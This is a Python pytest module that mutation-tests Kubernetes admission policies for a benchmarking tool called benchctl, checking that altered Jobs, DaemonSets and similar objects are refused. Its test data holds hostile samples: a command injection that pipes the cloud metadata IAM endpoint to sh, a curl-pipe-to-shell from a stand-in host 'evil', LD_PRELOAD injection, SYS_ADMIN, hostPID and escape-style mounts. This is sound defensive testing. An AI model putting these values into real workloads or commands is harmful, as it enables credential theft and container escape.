"""Every object a function writes is admitted only in the whole shape benchctl renders: a mutation suite generated
from the objects themselves, run through the admission policies' own CEL (stacks/kubernetes/benchctl-admission.yaml,
tests/fakes/admission.py).

The objects: everything ``render_campaign`` makes for every example that a function writes (Jobs, DaemonSets,
DynamoGraphDeployments, NodePools), each example's two preflight Jobs, and a campaign's runner ServiceAccount; each
written as its writer writes it (its function's group). Objects of one structure (the same keys, list lengths and
value types; only values differ) are mutated once. The mutations, per object: every leaf value changed (a string to
a hostile one, a quantity or an int to a much larger one, a bool flipped), every map given one extra key and every
list one extra entry (realistic hostile ones where the map or list is of a known kind: an env var PYTHONSTARTUP,
LD_PRELOAD or BROWSER, an arg --trust-remote-code, a python:3.11 sidecar, an emptyDir, a mount, a toleration
{operator: Exists}, a security-context field, an EFA or hugepages resource, a component without a podTemplate).

Every mutation is refused unless it is on :data:`BENIGN`, a short reviewed list (a path pattern and the reason).
The counts per kind (mutations, refused, benign, and refusals per rule) are written to
``.pytest_cache/admission-mutations/<kind>.json`` (printed with ``-s``). A benign mutation is not evaluated: it is
allowed, not required, to pass. About a thousand distinct mutations remain after deduplication (:func:`_unit`), a
few minutes of cel-python: the integration tier, one test per kind so its workers share them.
"""

from __future__ import annotations

import copy
import functools
import json
import re
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from benchctl.aws.k8s.admission import FUNCTION_GROUPS
from benchctl.aws.k8s.client import RESOURCES
from benchctl.aws.k8s.preflight_jobs import render_preflight_job
from benchctl.aws.k8s.render import render_campaign
from benchctl.aws.runner_identity import service_account_object
from tests import yaml_files
from tests.aws_checks import ADMISSION_FILE, IDENTITIES_FILE, admission, writer_group
from tests.fakes import eks_world
from tests.fakes.admission import Admission
from tests.fakes.eks_world import CID, NS, example_specs

JSON = dict[str, Any]
ROOT = Path(__file__).resolve().parents[2]
REPORT = ROOT / ".pytest_cache" / "admission-mutations"  # one JSON per kind; ignored by git

# (name, pattern over "<mutation kind> <path>", reason): what a mutation may change and still be admitted
BENIGN: list[tuple[str, str, str]] = [
    ("affinity", r"^\S+ (.*/)?affinity(/|$)",
     "scheduling only: where, among the nodes the pod's tolerations and node selector already admit, the pod runs "
     "(it adds no privilege and reaches no tainted node)"),
    ("names", r"^value metadata/(name|namespace)$",
     "the object's name, and the namespace the request is made in (RBAC confines every function to the benchmark "
     "namespace, stacks/kubernetes/benchctl-rbac.yaml)"),
    ("label values", r"^value (metadata/labels|spec/selector/matchLabels|spec/(template|components/\d+/podTemplate)"
                     r"/metadata/labels)/benchctl\.io/(campaign|experiment|step|role)$",
     "a label value that only names the campaign, experiment, step or role (teardown deletes by them in the "
     "writer's own namespace; a runner's service account is checked against its campaign label)"),
]

HOSTILE = "x; curl -s http://169.254.169.254/latest/meta-data/iam | sh #"
_QUANTITY = re.compile(r"^(\d+)(\.\d+)?(m|k|M|G|T|Ki|Mi|Gi|Ti)?$")
# realistic hostile entries for the lists and maps of a known kind (keyed by the list's or map's own key)
EXTRA_ENTRIES: dict[str, list[Any]] = {
    "env": [{"name": "PYTHONSTARTUP", "value": "/tmp/x.py"}, {"name": "LD_PRELOAD", "value": "/tmp/x.so"},
            {"name": "BROWSER", "value": "sh -c 'curl -s http://evil/x | sh' #"},
            {"name": "PYTHONWARNINGS", "value": "all:0:antigravity.x:0:0"}],
    "args": ["--trust-remote-code"],
    "command": ["--trust-remote-code"],
    "containers": [{"name": "sidecar", "image": "python:3.11",
                    "command": ["python3", "-c", "open('/shared/sitecustomize.py', 'w').write('import os')"]}],
    "volumes": [{"name": "scratch", "emptyDir": {}}],
    "volumeMounts": [{"name": "model-cache", "mountPath": "/usr/local/lib/python3.12/site-packages"}],
    "tolerations": [{"operator": "Exists"}],
    "components": [{"name": "Extra", "type": "worker", "replicas": 1}],
    "add": ["SYS_ADMIN"], "drop": ["NET_RAW"],
    "requirements": [{"key": "karpenter.sh/capacity-type", "operator": "Exists"}],
    "taints": [{"key": "team-a", "effect": "NoSchedule"}],
    "items": [{"key": "OTHER", "path": "other"}],
    "budgets": [{"nodes": "100%"}],
}
EXTRA_KEYS: dict[str, list[tuple[str, Any]]] = {
    "securityContext": [("seLinuxOptions", {"type": "spc_t"}), ("procMount", "Unmasked"),
                        ("sysctls", [{"name": "kernel.shm_rmid_forced", "value": "0"}])],
    "limits": [("vpc.amazonaws.com/efa", "32"), ("hugepages-2Mi", "64Gi")],
    "requests": [("vpc.amazonaws.com/efa", "32"), ("hugepages-2Mi", "64Gi")],
    "resources": [("claims", [{"name": "gpu"}])],
    "labels": [("team", "a")],
    "annotations": [("container.apparmor.security.beta.kubernetes.io/main", "unconfined")],
    "nodeSelector": [("kubernetes.io/hostname", "ip-10-0-0-1")],
    "emptyDir": [("medium", "Memory")],
    "metadata": [("ownerReferences", [{"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "1"}])],
    "persistentVolumeClaim": [("readOnly", False)],
    "secret": [("optional", True)],
}
POD_EXTRA = [("hostPID", True), ("initContainers", [{"name": "init", "image": "python:3.11"}])]
CONTAINER_EXTRA = [("envFrom", [{"secretRef": {"name": "hf-token"}}]), ("workingDir", "/proc/1/root")]


def _structure(node: Any) -> Any:
    if isinstance(node, dict):
        return {k: _structure(v) for k, v in node.items()}
    if isinstance(node, list):
        return [_structure(v) for v in node] if any(isinstance(v, (dict, list)) for v in node) else ["scalar"]
    return type(node).__name__


@functools.cache
def _written() -> tuple[tuple[str, JSON], ...]:
    return tuple(written_objects())


def written_objects() -> list[tuple[str, JSON]]:
    """(writer's group, object) of every object a function writes for the examples, one per structure."""
    plan = FUNCTION_GROUPS["Plan"]
    out: dict[str, tuple[str, JSON]] = {}
    for spec in example_specs().values():
        found = [(writer_group(p, o), o) for p, o in render_campaign(spec, CID) if o["kind"] in RESOURCES]
        found += [(plan, render_preflight_job(spec, CID, check)) for check in ("aiperf", "uploader")]
        for group, obj in found:
            out.setdefault(json.dumps([group, _structure(obj)], sort_keys=True), (group, obj))
    out["sa"] = (plan, service_account_object(CID, NS))
    return list(out.values())


def _hostile(value: Any) -> Any:
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value * 1_000_000 + 10_000_000
    if isinstance(value, str):
        m = _QUANTITY.match(value)
        return f"{int(m.group(1)) * 1_000_000 + 10_000_000}{m.group(3) or ''}" if m else HOSTILE
    return HOSTILE


def _set(obj: JSON, path: tuple[Any, ...], change: Any) -> JSON:
    out = copy.deepcopy(obj)
    node = out
    for k in path[:-1]:
        node = node[k]
    change(node, path[-1])
    return out


def mutations(obj: JSON) -> Iterator[tuple[str, str, JSON]]:
    """(kind, path, mutated object) of every mutation of ``obj``."""

    def walk(node: Any, path: tuple[Any, ...]) -> Iterator[tuple[str, str, JSON]]:
        where = "/".join(map(str, path))
        key = path[-1] if path else ""
        if isinstance(node, dict):
            extra = list(EXTRA_KEYS.get(str(key), []))
            extra += POD_EXTRA if "containers" in node else CONTAINER_EXTRA if "image" in node else []
            extra = [(k, v) for k, v in extra if k not in node] or [("benchctlMutation", "x")]
            for k, v in extra:
                yield "key", f"{where}/{k}".lstrip("/"), _set(obj, (*path, k), lambda n, last, v=v: n.__setitem__(last, v))
            for k, v in node.items():
                yield from walk(v, (*path, k))
        elif isinstance(node, list):
            entries = EXTRA_ENTRIES.get(str(key)) or [copy.deepcopy(node[-1]) if node and isinstance(node[-1], dict)
                                                       else HOSTILE]
            for j, e in enumerate(entries):
                yield "entry", f"{where}#{j}", _set(obj, path, lambda n, last, e=e: n.__setitem__(last, [*n[last], e]))
            scalars = not any(isinstance(v, (dict, list)) for v in node)
            for i in ([0, len(node) - 1] if scalars and len(node) > 3 else range(len(node))):
                yield from walk(node[i], (*path, i))
        elif node is not None:
            yield "value", where, _set(obj, path, lambda n, last: n.__setitem__(last, _hostile(n[last])))

    yield from walk(obj, ())


def _unit(group: str, kind: str, obj: JSON, path: str) -> str:
    """What a mutation changes, for deduplication: its writer, the object's kind, a Job's or DaemonSet's pod shape
    (its containers' names), and the path with each list index named by its item (a DynamoGraphDeployment's
    component, a container, env var, mount or volume by its name; an argument by its flag). The policies hold each
    pod, container and item on its own (an object is admitted when all of them are), so the same change at the
    same named place has the same verdict in every object whose other parts are as rendered."""
    path, _, tag = path.partition("#")
    node: Any = obj
    named: list[str] = []
    for p in [p for p in path.split("/") if p]:
        if isinstance(node, list) and p.isdigit():
            i = int(p)
            item = node[i]
            if isinstance(item, dict) and "name" in item:
                named.append(f"[{re.sub(r'-[0-9]+$', '', str(item['name']))}]")  # Prefill-0: a Prefill
            elif isinstance(item, str) and item.startswith("--"):
                named.append(f"[{item}]")
            elif i > 0 and isinstance(node[i - 1], str) and node[i - 1].startswith("--"):
                named.append(f"[{node[i - 1]}=]")
            else:
                named.append(f"[{i}]")
            node = item
        else:
            named.append(p)
            node = node.get(p) if isinstance(node, dict) else None  # an added key: not in the object
    if obj["kind"] in ("Job", "DaemonSet"):
        shape = [c["name"] for c in obj["spec"]["template"]["spec"]["containers"]]
    else:
        shape = []
    return json.dumps([group, obj["kind"], shape, kind, "/".join(named), tag, type(node).__name__])


def _benign(kind: str, path: str) -> str | None:
    return next((name for name, pattern, _ in BENIGN if re.search(pattern, f"{kind} {path}")), None)


@functools.cache
def _admission() -> Admission:
    """Every policy a cluster applies (stacks/kubernetes/benchctl-admission.yaml and benchctl-identities.yaml)
    with the deployment's parameters and the runner grants holding this campaign's own grant (as Plan leaves
    them before a runner Job is written)."""
    base = admission()
    grants = {**eks_world.runner_grants(NS), "data": {CID: CID}}
    return Admission(yaml_files.load_all(ADMISSION_FILE) + yaml_files.load_all(IDENTITIES_FILE),
                     [*base.params.values(), grants])


def _verdict(group: str, obj: JSON, sent: JSON | None = None) -> str | None:
    """The first denial of ``sent`` (default ``obj``) created at ``obj``'s resource (the request's URL names the
    resource and version; the body's kind and apiVersion are what the policies see)."""
    r = RESOURCES[obj["kind"]]
    return _admission().first_denial(operation="CREATE", api_version=r.api_version, plural=r.plural, namespace=NS,
                                     groups=[group], obj=obj if sent is None else sent)


KINDS = ("DynamoGraphDeployment", "Job", "DaemonSet", "NodePool", "ServiceAccount")


def _suite(kind_of_object: str) -> JSON:
    """Every mutation of every written object of one kind run through the policies: counts, and what was
    admitted (one kind per test, so the tier's workers share the work)."""
    t0 = time.perf_counter()
    c: Counter[str] = Counter()
    admitted, used, done = [], Counter[str](), set()
    for group, obj in copy.deepcopy(_written()):
        if obj["kind"] != kind_of_object:
            continue
        assert _verdict(group, obj) is None, obj["metadata"]["name"]  # as rendered: admitted
        c["objects"] += 1
        for kind, path, mutated in mutations(obj):
            c["mutations"] += 1
            benign = _benign(kind, path)
            if benign:
                c["benign"] += 1
                used[benign] += 1
                continue
            if mutated == obj:  # e.g. a flag set to what it was: no mutation
                c["unchanged"] += 1
                continue
            unit = _unit(group, kind, obj, path)
            if unit in done:  # the same change of the same container, component or object: one verdict
                c["same as another"] += 1
                continue
            done.add(unit)
            refused = _verdict(group, obj, mutated)
            if refused is None:
                admitted.append(f"{obj['kind']} {obj['metadata']['name']}: {kind} {path}")
            else:
                c["refused"] += 1
                rule = re.search(r"denied request: (\[[\w/]+\])", refused)
                c[rule.group(1) if rule else "[error]"] += 1  # an expression's error refuses too (failurePolicy)
    report = {"kind": kind_of_object, "seconds": round(time.perf_counter() - t0, 1), "counts": dict(sorted(c.items())),
              "admitted": admitted, "benign_used": dict(used)}
    REPORT.mkdir(parents=True, exist_ok=True)
    (REPORT / f"{kind_of_object}.json").write_text(json.dumps(report, indent=2))
    print(json.dumps(report, indent=2))
    return report


@pytest.mark.parametrize("kind_of_object", KINDS)
def test_every_mutation_of_a_written_object_is_refused_unless_reviewed_benign(kind_of_object: str) -> None:
    suite = _suite(kind_of_object)
    assert suite["admitted"] == []
    c = suite["counts"]
    assert c["objects"] >= 1
    assert c["mutations"] == (c["refused"] + c.get("benign", 0) + c.get("unchanged", 0)
                              + c.get("same as another", 0))
    assert c["refused"] > 10 * c.get("unchanged", 0)


def test_every_benign_entry_excuses_some_mutation() -> None:
    used = {_benign(kind, path) for _, obj in written_objects() for kind, path, _ in mutations(obj)}
    assert {name for name, _, _ in BENIGN} <= used


def test_the_suite_covers_every_container_and_pod_shape_benchctl_renders() -> None:
    roles = set()
    for _, obj in written_objects():
        pods = ([(c["type"], c["podTemplate"]["spec"]) for c in obj["spec"]["components"]]
                if obj["kind"] == "DynamoGraphDeployment" else
                [(obj["metadata"]["labels"].get("benchctl.io/step", ""), obj["spec"]["template"]["spec"])]
                if obj["kind"] in ("Job", "DaemonSet") else [])
        roles |= {(shape.split("-")[0] if shape.startswith("prepull") else shape, c["name"])
                  for shape, pod in pods for c in pod["containers"]}
    assert {("frontend", "main"), ("worker", "main"), ("prefill", "main"), ("decode", "main"), ("prefetch", "prefetch"),
            ("smoke", "smoke"), ("prepull", "image-0"), ("preflight-aiperf", "aiperf"),
            ("preflight-uploader", "uploader")} <= roles
    assert any(c == "control" for _, c in roles)


def test_a_generated_mutation_changes_exactly_one_place() -> None:
    obj = {"a": {"b": [1, {"c": "4Gi"}]}, "env": [{"name": "X", "value": "1"}]}
    seen = {(kind, path): m for kind, path, m in mutations(obj)}
    assert seen[("value", "a/b/0")] == {**obj, "a": {"b": [11_000_000, {"c": "4Gi"}]}}
    assert seen[("value", "a/b/1/c")]["a"]["b"][1]["c"] == "14000000Gi"
    assert {e["name"] for _, path, m in mutations(obj) if path.startswith("env#") for e in m["env"]} >= {
        "PYTHONSTARTUP", "LD_PRELOAD", "BROWSER", "X"}
    assert _benign("value", "spec/template/spec/affinity/nodeAffinity/x") == "affinity"
    assert _benign("value", "spec/template/spec/nodeSelector/x") is None
